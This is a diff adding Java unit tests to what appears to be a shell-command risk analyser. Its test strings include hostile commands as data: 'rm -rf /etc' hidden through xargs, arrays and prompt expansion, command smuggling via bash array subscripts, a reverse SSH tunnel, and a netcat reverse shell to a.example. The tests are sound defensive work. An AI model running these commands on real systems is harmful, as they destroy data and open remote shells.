@@ -280,6 +280,52 @@ class ShellReachTest {
         assertThat(beyondRunning("chmod -x ~/y")).contains(write("/home/ada/y"));
     }
 
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "IFS=: read -ra a <<< 'rm:-rf:/etc'; \"${a[@]}\"",
+                "read -a a <<< 'rm -rf /etc'; \"${a[@]}\"",
+                "xargs -I% bash -c '%' <<< 'rm -rf /etc'",
+                "echo 'rm -rf /etc' | xargs -d '\\n' -n1 sh -c",
+                "sh -c '$0' 'rm -rf /etc'",
+                "echo 'rm -rf /etc' > x; cat x | sh",
+                "echo 'rm -rf /etc' | install -m 755 /dev/stdin x; ./x"
+            })
+    void aLineKeepsItsWordsUntilAShellSplitsThem(String command) {
+        assertThat(beyondRunning(command)).contains(deleteAll("/etc"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "x='a[$(rm -rf /etc)]'; echo $((x))",
+                "x='a[$(rm -rf /etc)]'; [[ $x -eq 1 ]]",
+                "test -v 'a[$(rm -rf /etc)]'",
+                "printf -v 'a[$(rm -rf /etc)]' x",
+                "unset 'a[`rm -rf /etc`]'",
+                "declare 'a[$(rm -rf /etc)]=1'",
+                "x='$(rm -rf /etc)'; echo \"${x@P}\"",
+                "PS1='$(rm -rf /etc)' bash -i",
+                "PYTHONPATH=/tmp/x python3 app.py"
+            })
+    void textThatIsCalculatedWithOrPromptedIsCode(String command) {
+        assertThat(isOpaque(command)).isTrue();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "x='a[0]=$(date)'",
+                "PS1='\\u@\\h '",
+                "printf '%s' 'a[$(x)]'",
+                "PYTHONPATH=src python3 app.py",
+                "date -Iseconds",
+                "seq 3 | xargs -I{} touch f{}"
+            })
+    void textThatIsOnlyTextIsNot(String command) {
+        assertThat(isAlarming(Effects.of(command))).isFalse();
+    }
+
     @Test
     void emptyingManyFilesIsLosingThem() {
         assertThat(beyondRunning("git ls-files -z | xargs -0 truncate -s 0")).contains(deleteAll("/home/ada/work"));
@@ -340,6 +386,9 @@ class ShellReachTest {
                 "git clone 'ext::sh -c x'",
                 "npm run x --script-shell=/tmp/x",
                 "history -c",
+                "git tag -d v1",
+                "git update-ref refs/heads/main HEAD~5",
+                "ssh -R 9000:localhost:22 a.example -N",
                 "printf 'all:\\n\\trm -rf /etc\\n' > Makefile && make",
                 "mknod /tmp/p p; /bin/sh < /tmp/p | nc a.example 9 > /tmp/p"
             })
